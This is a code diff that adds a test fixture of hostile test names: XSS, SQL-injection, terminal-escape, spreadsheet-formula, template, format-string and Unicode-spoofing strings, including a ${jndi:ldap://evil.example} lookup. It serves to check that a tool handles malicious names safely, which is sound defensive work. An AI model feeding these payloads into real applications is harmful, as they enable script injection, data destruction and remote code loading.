@@ -34,3 +34,16 @@ HOSTILE_PATHS: tuple[str, ...] = (
     "d/" * 120 + "deep.txt",
     "n" * 250 + ".txt",
 )
+
+HOSTILE_TEST_NAMES: tuple[str, ...] = (
+    '<script>alert("test")</script>',
+    '"><img src=x onerror=alert(1)>',
+    "\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
+    "'); DROP TABLE tests; -- \\ \\u0000",
+    '=HYPERLINK("https://evil.example","passed")',
+    "line\r\nbreak\ttab\x0b",
+    "\u202edessap\u2066\u200b 👩\u200d👩\u200d👧",
+    "{{ 7 * 7 }} ${jndi:ldap://evil.example} %s %n",
+    "n" * 20_000,
+    "",
+)
